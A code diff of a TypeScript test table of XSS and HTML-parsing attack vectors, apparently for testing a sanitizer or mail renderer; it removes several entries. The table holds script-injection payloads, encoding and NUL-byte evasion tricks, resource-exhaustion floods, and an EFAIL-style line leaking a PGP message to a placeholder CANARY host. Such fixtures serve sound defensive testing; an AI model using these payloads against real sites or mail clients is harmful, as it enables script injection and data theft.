@@ -10,9 +10,6 @@ export const brokenVectors: Vectors = {
   'conditional comment of an old browser':
     '<!--[if IE]><script>PWN</script><![endif]--><comment><img src=x onerror=PWN></comment>',
   VML: '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="https://CANARY/vml.gif" /><v:imagedata src="https://CANARY/d.gif"/></v:rect>',
-  'XML of Office':
-    '<o:p><xml><o:OfficeDocumentSettings><o:href>https://CANARY/o</o:href></o:OfficeDocumentSettings></xml></o:p>',
-  HTC: '<?import namespace="t" implementation="#default#time2"><t:set attributeName=innerHTML to="<script>PWN</script>">',
   'CDATA in HTML': '<![CDATA[<img src=x onerror=PWN>]]>',
   'NUL in a tag': '<scr\u0000ipt>PWN</scr\u0000ipt><img src=x on\u0000error=PWN>',
   'NUL as an entity': '<img src=x o&#0;nerror=PWN><a href="java&#x00;script:PWN">x</a>',
@@ -23,9 +20,6 @@ export const brokenVectors: Vectors = {
   'UTF-7 by an equivalent':
     '<meta http-equiv=Content-Type content="text/html; charset=utf-7">+ADw-img src+AD0-x onerror+AD0-PWN+AD4-',
   'ISO-2022-JP': '<meta charset="iso-2022-jp"><img title="\u001b$B" src="x\u001b(B" onerror=PWN>',
-  'US-ASCII with a high bit': '\u00bcscript\u00bePWN\u00bc/script\u00be',
-  'overlong UTF-8': '\u00c0\u00bcscript\u00c0\u00bePWN\u00c0\u00bc/script\u00c0\u00be',
-  'wide letters': '\uff1cscript\uff1ePWN\uff1c/script\uff1e',
   'letters that grow in capitals': '<\u017fcript>PWN</\u017fcript><\u017fvg onload=PWN>',
   'tag without an end': '<img src=x onerror=PWN',
   'tag without an end, then text': '<img src="https://CANARY/open.gif" onerror=PWN <p>Dear all',
@@ -39,8 +33,6 @@ export const brokenVectors: Vectors = {
   'end without a beginning': '</script></style></title></textarea></noscript><script>PWN</script>',
   'document in a document': '<html><html onload=PWN><head><head><body><body onload=PWN><html></html>',
   'two bodies': '<body bgcolor=red onload=PWN></body><body background="https://CANARY/second.gif" onload=PWN>',
-  'base 64': 'PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+',
-  'quoted printable': '=3Cscript=3EPWN=3C/script=3E',
   'entities twice': '&amp;lt;script&amp;gt;PWN&amp;lt;/script&amp;gt;&lt;script&gt;PWN&lt;/script&gt;',
   'MIME in the body': 'Content-Type: text/html\r\n\r\n<script>PWN</script>\r\n--x\r\n',
   EFAIL: '<img src="https://CANARY/efail?\r\n-----BEGIN PGP MESSAGE-----\r\nsecret\r\n-----END PGP MESSAGE-----\r\n">',
@@ -56,7 +48,6 @@ export const brokenVectors: Vectors = {
   'megabyte of blanks in an attribute': `<img src=${fill(' ')}x onerror=PWN><p style="background:url(${fill(' ')}x)">x</p>`,
   'flood of text before': `${fill('a ', 200_000)}<script>PWN</script>`,
   'flood of attributes': `<p ${fill('on x=y ', 200_000)}><img src=x onerror=PWN>`,
-  'flood of styles': `<p>x</p><style>${fill('p{color:red}', 200_000)}@import "https://CANARY/late.css";</style><img src=x onerror=PWN>`,
   'flood of links': fill('<a href="javascript:PWN">x</a><br>', 100_000),
 }
 
